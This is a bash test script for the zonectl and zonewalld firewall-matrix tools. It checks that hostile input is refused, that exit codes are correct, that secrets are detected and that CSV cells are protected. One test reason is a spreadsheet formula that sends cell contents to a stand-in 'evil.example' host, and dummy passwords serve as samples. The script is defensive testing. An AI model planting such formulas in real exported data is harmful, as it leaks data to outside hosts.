#!/usr/bin/env bash
# SPDX-License-Identifier: BSD-2-Clause
# zonectl and zonewalld against hostile or careless input (issue 10, items
# 9 and 13), with the file test engine (no root needed): each input blamed
# for its own fault, exit codes as docs/cli.md says, secrets refused
# wherever they hide (matrix comments, the file name, spellings, Unicode
# tricks) and never stored, CSV cells that are no formulas.
set -u
B=${ZONEWALL_BUILDDIR:?}
S=${ZONEWALL_SRCDIR:?}
ZWD=$B/tests/control/zonewalld-test
ZC=$B/control/zonectl
PY=/usr/bin/python3
command -v sqlite3 >/dev/null || { echo "SKIP: sqlite3 CLI missing"; exit 77; }
[ -x $PY ] || { echo "SKIP: $PY missing"; exit 77; }

T=$(mktemp -d /tmp/zw-hostile.XXXXXX)
chmod 755 "$T"
SOCK=$T/zw.sock
ST=$T/state
PID=
fails=0
checks=0

cleanup() {
	[ -n "$PID" ] && kill -9 "$PID" 2>/dev/null
	[ -z "${ZW_KEEP_TMP:-}" ] && rm -rf "$T"
}
trap cleanup EXIT

. "$(dirname "$0")/../lib/checks.sh"
err_has() { # DESCRIPTION TEXT: the last command's stderr contains TEXT
	if grep -qF -- "$2" "$T/err"; then ok "$1"; else
		bad "$1: stderr lacks '$2'"; sed 's/^/    /' "$T/err"; fi
}
zc() { "$ZC" --socket "$SOCK" "$@"; }
jq_() { $PY -c "import json,sys; d=json.load(sys.stdin); print($1)"; }

"$ZWD" --state "$ST" --socket "$SOCK" --backend "file:$T/eng.img" \
	--foreground --log "$T/zwd.log" &
PID=$!
for _ in $(seq 100); do zc status >/dev/null 2>&1 && break; sleep 0.05; done

M1=$S/matrix/examples/minimal.yaml

# --- item 13: each input is blamed for its own fault
expect_rc 1 "a reason that is not UTF-8 is refused" zc commit "$M1" -m $'\xff'
err_has "... and the reason is blamed" "reason (-m) is not valid UTF-8"
if grep -q "minimal.yaml" "$T/err"; then bad "... not the file"; else ok "... not the file"; fi
expect_rc 3 "commit of a missing file exits 3" zc commit "$T/missing.yaml" -m "x"
expect_rc 3 "... as check does" "$ZC" check "$T/missing.yaml"
printf 'zonewall: 1\n# caf\xe9\n' >"$T/latin1.yaml"
expect_rc 1 "a matrix that is not UTF-8 is refused" zc commit "$T/latin1.yaml" -m "x"
err_has "... and the file is blamed" "latin1.yaml is not valid UTF-8"
NAME=$'m\xff\\x.yaml'
cp "$M1" "$T/$NAME"
expect_rc 0 "a valid matrix at a non-UTF-8 path can be committed" zc commit "$T/$NAME" -m "first version"
check "... recorded with the odd bytes escaped" [ "$(zc versions --format json | jq_ "d['versions'][-1]['file'].rsplit('/',1)[1]")" = 'm\xff\x5cx.yaml' ]
sed 's/F-001/F-101/' "$M1" >"$T/m2.yaml"
expect_rc 0 "commit v2" zc commit "$T/m2.yaml" -m "rename a flow"
expect_rc 0 "rollback \"1\" works" zc rollback "1" -m "back to the first"
expect_rc 0 "rollback 02 works" zc rollback 02 -m "and forward again"
expect_rc 2 "rollback '\"1\"' is a usage error" zc rollback '"1"' -m "x"
err_has "... that says why" "is not a version number"
expect_rc 2 "journal --since -1 refused" zc journal --since -1
expect_rc 2 "journal --since=-1 refused" zc journal --since=-1
expect_rc 2 "journal --since 1e300 refused" zc journal --since 1e300
expect_rc 2 "journal --since 100001 refused" zc journal --since 100001
expect_rc 0 "journal --since 0 accepted" zc journal --since 0

# --- item 13: the journal CSV protects cells against formula injection
expect_rc 0 "a reason that looks like a formula is accepted" \
	zc rollback 2 -m '=HYPERLINK("http://evil.example/?"&A1,"click")'
zc journal --format csv >"$T/j.csv"
check "journal csv: the formula is exported as text" \
	[ "$($PY -c "import csv; r=[x['reason'] for x in csv.DictReader(open('$T/j.csv')) if x['reason'].find('HYPERLINK')>=0]; print(r[0][:11])")" = "'=HYPERLINK" ]
check "journal json keeps the exact reason" \
	[ "$(zc journal --format json | jq_ "[e['reason'] for e in d['entries'] if 'HYPERLINK' in e['reason']][0][:10]")" = "=HYPERLINK" ]

# --- item 9: secrets wherever they hide are refused and never stored
BEFORE=$(zc versions --format json | jq_ "len(d['versions'])")
secret_refused() { # DESCRIPTION FILE [REASON]
	expect_rc 1 "$1 is refused" zc commit "$2" -m "${3:-add the new servers}"
	err_has "... as a secret" "secret"
}
sed 's/^zonewall: 1$/zonewall: 1\n# db password=Hunter2xyz (temporary)/' "$M1" >"$T/comment.yaml"
secret_refused "a password in a YAML comment" "$T/comment.yaml"
sed 's/^zonewall: 1$/zonewall: 1\n# pw=Hunter2xyz/' "$M1" >"$T/pw.yaml"
secret_refused "pw= in a comment" "$T/pw.yaml"
sed 's/^zonewall: 1$/zonewall: 1\n# connect with mysql -uroot -pHunter2xyz/' "$M1" >"$T/dashp.yaml"
secret_refused "-p<secret> in a comment" "$T/dashp.yaml"
sed $'s/^zonewall: 1$/zonewall: 1\\n# pass\xe2\x80\x8bword=Hunter2xyz/' "$M1" >"$T/zwsp.yaml"
secret_refused "a zero-width space inside the word" "$T/zwsp.yaml"
sed $'s/^zonewall: 1$/zonewall: 1\\n# \xef\xbd\x90\xef\xbd\x81\xef\xbd\x93\xef\xbd\x93\xef\xbd\x97\xef\xbd\x8f\xef\xbd\x92\xef\xbd\x84\xef\xbc\x9dHunter2xyz/' "$M1" >"$T/fullwidth.yaml"
secret_refused "a full-width password=" "$T/fullwidth.yaml"
cp "$M1" "$T/password=Hunter2xyz.yaml"
secret_refused "a secret in the matrix file name" "$T/password=Hunter2xyz.yaml"
secret_refused "pw= in the reason" "$M1" "new pw=Hunter2xyz"
secret_refused "-p<secret> in the reason" "$M1" "restore with mysql -pHunter2xyz"
secret_refused "a zero-width joiner in the reason" "$M1" $'pass\xe2\x80\x8dword=Hunter2xyz'
check "no refused matrix became a version" [ "$(zc versions --format json | jq_ "len(d['versions'])")" = "$BEFORE" ]
# what must not be taken for a secret
sed 's/^zonewall: 1$/zonewall: 1\n# reach the jump hosts with ssh -p 2222 (see CHG-42)/' "$M1" >"$T/fine.yaml"
expect_rc 0 "a comment with an option and a port is accepted" zc commit "$T/fine.yaml" -m "document the ssh port"
# a long path is not one "random-looking token" ('/' is a base64 character)
mkdir -p "$T/Build7Tree/Debian12Root/usr/share/Zonewall9Examples"
cp "$T/fine.yaml" "$T/Build7Tree/Debian12Root/usr/share/Zonewall9Examples/m.yaml"
expect_rc 0 "a matrix under a long mixed-case path is accepted" \
	zc commit "$T/Build7Tree/Debian12Root/usr/share/Zonewall9Examples/m.yaml" -m "same matrix, shipped path"
kill -TERM "$PID"; wait "$PID"; PID=
if sqlite3 "$ST/zonewall.db" .dump | grep -q Hunter2xyz ||
	grep -rq Hunter2xyz "$ST" 2>/dev/null; then
	bad "a secret reached the state directory"
else
	ok "no secret in the state directory (database, logs)"
fi

echo "$checks checks, $fails failed"
[ "$fails" = 0 ]
